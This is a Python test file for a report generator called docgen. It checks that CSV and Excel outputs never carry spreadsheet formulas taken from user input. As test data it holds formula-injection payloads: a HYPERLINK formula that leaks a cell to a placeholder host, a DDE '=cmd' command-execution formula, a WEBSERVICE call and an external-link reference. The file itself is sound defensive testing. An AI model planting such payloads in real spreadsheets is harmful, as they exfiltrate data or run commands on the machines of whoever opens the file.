"""No CSV file and no workbook of docgen's holds a formula that came from an input."""

import csv
import io
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from door import INPUTS, Docgen, write_json
from forms import FORMS
from hypothesis import given, settings
from hypothesis import strategies as st

from docgen.blank import blank_report, write_blank
from docgen.errors import UsageStop
from docgen.model import Body, Reading, Report
from docgen.read import read_report

FORM = FORMS["disclosure-2021"]
LINK = '=HYPERLINK("http://example.invalid/?"&A1,"某镇人民政府")'
#: What a spreadsheet takes for the beginning of a formula.
BEGINNINGS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")


def live(data: bytes) -> list[str]:
    """The cells of a CSV file that a spreadsheet would reckon, numbers aside."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    cells = [cell for row in rows for cell in row if cell.lstrip(" ").startswith(BEGINNINGS)]
    return [cell for cell in cells if not cell.removeprefix("-").replace(".", "", 1).isdigit()]


def formulas(path: Path) -> list[str]:
    """The formulas of a workbook, as they stand in its file."""
    book = openpyxl.load_workbook(path)
    cells = (cell for sheet in book for row in sheet.iter_rows() for cell in row)
    return [str(cell.value) for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize("beginning", BEGINNINGS)
@pytest.mark.parametrize("place", ["name", "title", "signature", "wording"])
@pytest.mark.parametrize("kind", [(), ("--xlsx",)])
def test_new_carries_no_formula_over(
    docgen: Docgen,
    folder: Path,
    reference: dict[str, Any],
    beginning: str,
    place: str,
    kind: tuple[str, ...],
) -> None:
    """It is refused with its cell's name, and nothing is written."""
    text = f"{beginning}HYPERLINK(2024)"
    holder, key = {
        "name": (reference["body"], "name"),
        "title": (reference, "title"),
        "signature": (reference["signature"], "name"),
        "wording": (reference["wording"], "disclosure.normative"),
    }[place]
    holder[key] = text
    write_json(folder / "2024.json", reference)
    run = docgen("new", 2025, "--from", "2024.json", *kind)
    if run.code == 0:  # the reader of inputs takes off what stands around a text
        assert beginning.isspace()
        assert all(live(path.read_bytes()) == [] for path in folder.rglob("*.csv"))
        return
    assert run.code == 2
    assert "X209" in run.err
    assert {path.name for path in folder.iterdir()} == {"2024.json"}


NAMES = st.text(min_size=1) | st.tuples(st.sampled_from(BEGINNINGS), st.text()).map("".join)


@pytest.mark.slow
@settings(deadline=None, max_examples=60)  # a workbook takes a while
@given(NAMES)
def test_a_name_is_refused_or_reads_back_as_it_is(name: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        for workbook in (False, True):
            try:
                report = blank_report(FORM, 2025, name)
            except UsageStop:
                continue
            paths = write_blank(FORM, report, Path(folder), workbook=workbook)
            if not workbook:
                assert [cell for path in paths for cell in live(path.read_bytes())] == []
            back = read_report(Path(folder, "2025.xlsx" if workbook else "2025")).report
            assert (back.body.name or "") == name.strip()


@pytest.mark.slow
@given(st.sampled_from(BEGINNINGS), st.text(st.characters(exclude_categories=["C"]), max_size=9))
def test_open_data_holds_no_formula(beginning: str, rest: str) -> None:
    """A label that begins like one has an apostrophe before it; figures stay numbers."""
    from docgen.publish.data import CSV, write_data

    reading = read_report(INPUTS / "2024.json")
    wording = dict.fromkeys(reading.form.wordings, beginning + rest)
    figures = {**reading.report.figures, "disclosure.normative.valid": -3}
    report = reading.report.model_copy(update={"wording": wording, "figures": figures})
    data = write_data(reading.form, report)[CSV]
    assert live(data) == []
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert any(row["数值"] == "-3" for row in rows) or len(rows) == len(reading.form.figures)
    assert any(f"'{beginning}{rest}" in row["行"] + row["列"] for row in rows)


def test_a_report_on_a_folder_holds_none(docgen: Docgen, csv_folder: Path) -> None:
    facts = csv_folder / "基本情况.csv"
    text = facts.read_text(encoding="utf-8-sig")
    quoted = '"' + LINK.replace('"', '""') + '"'
    text = text.replace("乌苏市甘河子镇人民政府", quoted, 1)
    facts.write_text(text, encoding="utf-8-sig")
    assert docgen("check", csv_folder, "--report", "结果.xlsx").code == 0
    assert formulas(Path("结果.xlsx")) == []
    book = openpyxl.load_workbook("结果.xlsx")
    assert LINK in {cell.value for row in book["基本情况"].iter_rows() for cell in row}


def test_a_report_on_a_workbook_keeps_its_sums_only(docgen: Docgen, folder: Path) -> None:
    """What calls out, or names another file, is shown as text; the remark says where."""
    book = openpyxl.load_workbook(INPUTS / "2024.xlsx")
    own = sorted(
        str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row
        if cell.data_type == "f"
    )  # fmt: skip
    evil = [LINK, "=cmd|' /c calc'!A0", "=[1]表!A1", '=WEBSERVICE("http://example.invalid/")']
    for row, formula in enumerate(evil, start=40):
        book["表二 申请办理"].cell(row, 12).value = formula
    book["表二 申请办理"]["L39"] = "=SUM(D4:E4)"
    book.save(folder / "2024.xlsx")
    docgen("check", "2024.xlsx", "--report", "结果.xlsx")
    assert sorted(formulas(folder / "结果.xlsx")) == sorted([*own, "=SUM(D4:E4)"])
    copy = openpyxl.load_workbook(folder / "结果.xlsx")
    shown = [copy["表二 申请办理"].cell(row, 12).value for row in range(40, 44)]
    assert shown == evil
    said = [str(cell.value) for row in copy["核对结果"].iter_rows() for cell in row]
    assert any("表二 申请办理 L40、表二 申请办理 L41" in text for text in said)
    with zipfile.ZipFile(folder / "结果.xlsx") as package:
        assert not [name for name in package.namelist() if "externalLink" in name]


def test_names_that_look_like_figures_are_no_formulas() -> None:
    """A body's name that begins with a digit or a bracket is a name."""
    for name in ("117团", "（筹）甲镇人民政府", "甲=乙镇"):
        assert blank_report(FORM, 2025, name).body.name == name
    report = Report(form=FORM.key, year=2024, body=Body(name=LINK))
    with pytest.raises(UsageStop):
        blank_report(FORM, 2025, "", Reading("2024", FORM, report, {}, frozenset(), (), {}))
